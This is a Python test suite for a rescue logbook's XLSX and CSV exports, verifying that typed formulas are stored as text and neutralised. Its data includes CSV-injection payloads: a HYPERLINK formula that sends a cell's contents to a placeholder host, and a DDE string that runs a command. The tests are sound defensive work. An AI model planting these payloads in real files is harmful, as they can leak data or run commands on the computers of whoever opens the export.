"""Exports never carry a live formula: text typed as ``=HYPERLINK(...)`` or ``=cmd|...`` is written as
text (OWASP "CSV Injection": cells starting with = + - @ TAB CR), read back here with openpyxl as values,
while the logbook keeps and shows the text exactly as typed."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from sar_planner.logbook.exports import export_bytes
from sar_planner.logbook.history import import_history
from sar_planner.logbook.records import get_sortie, list_sorties, log_sortie
from tests.logbook._helpers import local, sortie

LINK = '=HYPERLINK("http://host/?"&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (LINK, DDE, "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


def _xlsx_cells(data: bytes) -> tuple[list[str], list[list[openpyxl.cell.Cell]]]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows())
    return [c.value for c in rows[0]], rows[1:]


def test_typed_formulas_are_text_in_xlsx_and_quoted_in_csv(db, unit):
    ids = []
    for k, text in enumerate(HOSTILE):
        rec = log_sortie(db, unit.crew, sortie(local(2025, 7, 2, 8 + k, 0), hours=0.5,
                                                remarks=text, takeoff_site=text))
        assert get_sortie(db, rec.id).remarks == text  # stored exactly as typed
        ids.append(rec.id)
    records = list_sorties(db)
    assert [r.remarks for r in records] == list(HOSTILE)
    # a site is one line: the form trims its white space, so "\t=1+1" is kept as "=1+1" (still a formula)
    assert [r.takeoff_site for r in records] == [t.strip() for t in HOSTILE]

    header, rows = _xlsx_cells(export_bytes(records, "xlsx"))
    for col in ("remarks", "takeoff_site"):
        j = header.index(col)
        cells = [row[j] for row in rows]
        assert [c.value for c in cells] == [getattr(r, col) for r in records]  # the text the page shows
        assert {c.data_type for c in cells} == {"s"}  # text, never "f" (formula)
        assert all(c.quotePrefix for c in cells)
    sheet_xml = zipfile.ZipFile(io.BytesIO(export_bytes(records, "xlsx"))).read("xl/worksheets/sheet1.xml")
    assert sheet_xml.count(b'<t xml:space="preserve">\t=1+1</t>') == 1  # the remark keeps its tab
    assert b"<f>" not in sheet_xml
    flight_hours = [row[header.index("flight_hours")] for row in rows]
    assert {c.data_type for c in flight_hours} == {"n"} and flight_hours[0].value == 0.5  # numbers stay numbers

    text = export_bytes(records, "csv").decode("utf-8-sig")
    got = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["remarks"] for r in got] == ["'" + t for t in HOSTILE]
    assert [r["takeoff_site"] for r in got] == ["'" + t.strip() for t in HOSTILE]
    assert got[0]["number"] == str(records[0].number)


def test_formulas_arriving_by_history_import_are_neutralised_too(db):
    from sar_planner.auth import Actor

    data = ("sortie_no,date,takeoff,flight_hours,aircraft,aircraft_type,aircraft_kind,task_type,pilot,crew,"
            "mission,outcome,takeoff_site,remarks\n"
            f'1,2019-03-08,09:35,0.5,B-7185,AC311A,helicopter,training,孙立民,,,,"{DDE}",'
            f'"\t{LINK.replace(chr(34), 2 * chr(34))}"\n'
            ).encode("utf-8")
    assert import_history(db, Actor(None, "cli:test", "admin"), data, "h.csv") == 1
    rec = list_sorties(db)[0]
    header, rows = _xlsx_cells(export_bytes([rec], "xlsx"))
    for col in ("remarks", "takeoff_site"):
        cell = rows[0][header.index(col)]
        assert cell.data_type == "s" and cell.value == getattr(rec, col)
        assert cell.value.lstrip("\t").startswith("=")
    got = next(csv.DictReader(io.StringIO(export_bytes([rec], "csv").decode("utf-8-sig"), newline="")))
    assert got["takeoff_site"] == "'" + DDE
    assert got["remarks"].startswith("'")
